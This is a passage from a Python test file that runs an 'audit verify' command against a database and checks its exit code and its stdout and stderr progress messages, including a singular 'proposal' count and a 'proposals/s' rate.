    assert main(["audit", "verify", "--database", database_url]) == 0
    assert capsys.readouterr().err == ""  # over within the quiet seconds

    monkeypatch.setattr(projections, "VERIFY_QUIET_FOR", 0.0)
    assert main(["audit", "verify", "--database", database_url]) == 0
    said = capsys.readouterr()
    assert said.out.startswith("audit verify: OK, ")
    assert said.err.startswith("audit verify: 1 proposal, ")  # one, in the singular
    assert said.err.endswith(" proposals/s\n")
